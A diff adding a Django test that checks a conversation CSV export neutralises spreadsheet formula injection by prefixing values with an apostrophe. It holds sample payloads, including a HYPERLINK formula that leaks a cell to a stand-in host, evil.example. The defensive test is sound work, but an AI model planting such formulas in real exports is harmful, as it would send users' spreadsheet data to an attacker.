@@ -88,6 +88,28 @@ def test_the_conversations_behind_the_figures_export_as_csv(client, timeline):
     assert client.get("/reports/export/nothing.csv", params).status_code == 404
 
 
+def test_the_conversation_export_defuses_spreadsheet_formulas(client, timeline):
+    import csv
+    import io
+
+    from tests.factories import make_contact
+
+    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"Click")'
+    inbox = make_inbox("whatsapp", name="@SUM(A1)")
+    chat = timeline(inbox, contact=make_contact(name=hyperlink)).created(ams(2026, 3, 31, 10, 0))
+    chat.customer(ams(2026, 3, 31, 10, 0))
+    chat.conversation.tags.create(name="+cmd")
+    inbox_day_rollup(inbox=inbox, day=date(2026, 3, 31), now=ams(2026, 4, 1, 0, 0))
+    client.force_login(make_user("lea", role="lead"))
+    params = {"period": "custom", "from": "2026-03-31", "to": "2026-03-31"}
+    response = client.get("/reports/export/conversations.csv", params)
+    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert (row["contact"], row["inbox"], row["tags"]) == ("'" + hyperlink, "'@SUM(A1)", "'+cmd")
+    assert row["conversation"] == str(chat.conversation.pk)
+    volume = b"".join(client.get("/reports/export/volume.csv", params).streaming_content).decode()
+    assert volume.splitlines()[1].startswith("whatsapp,1,1,0,")
+
+
 def test_the_charts_get_their_series_as_json_and_as_tables(client, timeline):
     # given: two days; a 4-minute and a 50-minute first response; CSAT 4 and NPS 10 on day two
     from reporting.services import survey_response_record
